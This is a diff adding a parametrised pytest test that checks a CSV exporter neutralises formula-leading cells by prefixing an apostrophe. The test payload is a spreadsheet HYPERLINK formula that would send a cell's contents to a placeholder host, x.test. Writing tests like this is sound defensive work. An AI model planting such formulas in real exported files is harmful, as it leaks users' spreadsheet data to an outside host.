@@ -174,6 +174,14 @@ def test_csv_keeps_attributes_and_multiline_span_text() -> None:
     assert json.loads(rows[0]["provenance"]) == PROVENANCE
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run(start: str) -> None:
+    payload = start + "HYPERLINK(\"http://x.test/?\"&A1)"
+    doc = _doc(payload, payload + " said so.", (GoldSpan(0, len(payload), "sourced_readout"),))
+    [row] = list(csv.DictReader(io.StringIO(export("csv", (doc,))[0].decode("utf-8"), newline="")))
+    assert (row["text_id"], row["span_text"]) == ("'" + payload, "'" + payload)
+
+
 def test_spacy_exact_tokens_and_spans() -> None:
     record = json.loads(export("spacy", (DOC_B,))[0])
     assert record["text"] == TEXT_B
